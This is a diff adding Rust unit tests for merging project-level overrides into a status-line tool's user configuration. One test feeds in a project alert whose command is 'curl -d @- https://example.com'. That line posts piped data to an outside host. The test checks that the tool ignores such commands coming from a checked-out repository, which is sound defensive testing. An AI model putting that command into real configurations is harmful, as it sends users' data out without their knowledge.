@@ -278,3 +278,194 @@ fn project_override_config_deserializes_empty() {
     assert!(project.display.is_none());
     assert!(project.segments.is_none());
 }
+
+#[test]
+fn merge_project_overrides_workspace_dirs() {
+    let user = PulselineConfig::default();
+    assert!(user.segments.identity.show_workspace_dirs);
+
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[segments.identity]
+show_workspace_dirs = false
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    assert!(
+        !merged.segments.identity.show_workspace_dirs,
+        "show_workspace_dirs should be overridden to false"
+    );
+    assert!(
+        merged.segments.identity.show_git,
+        "show_git should inherit default (true)"
+    );
+}
+
+#[test]
+fn merge_project_ignores_custom_segments() {
+    let user: PulselineConfig = toml::from_str(
+        r#"
+[[segments.custom]]
+name = "ci"
+command = "cat ~/.ci-status"
+"#,
+    )
+    .unwrap();
+    // A checked-out repository must not be able to add commands
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[[segments.custom]]
+name = "ci"
+command = "cat .ci/status"
+
+[[segments.custom]]
+name = "compose"
+command = "docker compose ls -q"
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    assert_eq!(merged.segments.custom.len(), 1);
+    assert_eq!(merged.segments.custom[0].command, "cat ~/.ci-status");
+}
+
+#[test]
+fn merge_project_overrides_width() {
+    let user: PulselineConfig = toml::from_str(
+        r#"
+[display]
+width_offset = 4
+"#,
+    )
+    .unwrap();
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[display]
+width = 90
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    assert_eq!(merged.display.width, Some(90));
+    assert_eq!(merged.display.width_offset, 4, "offset inherits from user");
+
+    // An explicit width is used as-is, regardless of terminal or offset
+    let render = cc_pulseline::config::build_render_config_with_width(&merged, Some(200));
+    assert_eq!(render.terminal_width, Some(90));
+
+    // Otherwise the detected width, minus the offset
+    let mut unpinned = merged;
+    unpinned.display.width = None;
+    let render = cc_pulseline::config::build_render_config_with_width(&unpinned, Some(200));
+    assert_eq!(render.terminal_width, Some(196));
+    let render = cc_pulseline::config::build_render_config_with_width(&unpinned, None);
+    assert_eq!(render.terminal_width, None);
+}
+
+#[test]
+fn merge_project_overrides_locale() {
+    let user: PulselineConfig = toml::from_str(
+        r#"
+[display]
+messages = "~/messages.toml"
+"#,
+    )
+    .unwrap();
+    assert_eq!(user.display.locale, "en");
+
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[display]
+locale = "zh-TW"
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    assert_eq!(merged.display.locale, "zh-TW");
+    assert_eq!(merged.display.messages.as_deref(), Some("~/messages.toml"));
+}
+
+#[test]
+fn merge_project_replaces_currency_table() {
+    let user: PulselineConfig = toml::from_str(
+        r#"
+[display]
+thousands_separator = ","
+
+[display.currency]
+symbol = "€"
+rate = 0.92
+position = "after"
+"#,
+    )
+    .unwrap();
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[display.currency]
+symbol = "£"
+rate = 0.79
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    assert_eq!(merged.display.currency.symbol, "£");
+    assert_eq!(merged.display.currency.rate, 0.79);
+    assert_eq!(
+        merged.display.currency.position, "before",
+        "table replaced whole"
+    );
+    assert_eq!(merged.display.thousands_separator, ",");
+}
+
+#[test]
+fn merge_project_alerts_append_and_replace_by_name() {
+    let user: PulselineConfig = toml::from_str(
+        r#"
+[[alerts]]
+name = "context"
+metric = "context"
+threshold = 80
+
+[[alerts]]
+name = "budget"
+metric = "cost"
+threshold = 10
+"#,
+    )
+    .unwrap();
+    let project: ProjectOverrideConfig = toml::from_str(
+        r#"
+[[alerts]]
+name = "budget"
+metric = "cost"
+threshold = 2.5
+action = "notify"
+
+[[alerts]]
+name = "context"
+metric = "context"
+threshold = 50
+action = "command"
+command = "curl -d @- https://example.com"
+"#,
+    )
+    .unwrap();
+
+    let merged = merge_configs(user, &project);
+    let names: Vec<_> = merged.alerts.iter().map(|a| a.name.as_str()).collect();
+    assert_eq!(names, ["context", "budget"]);
+    assert_eq!(merged.alerts[1].threshold, Some(2.5));
+    assert_eq!(merged.alerts[1].action, "notify");
+    assert_eq!(merged.alerts[0].action, "bell", "action defaults to bell");
+    assert_eq!(
+        merged.alerts[0].threshold,
+        Some(80.0),
+        "project command alerts are ignored"
+    );
+}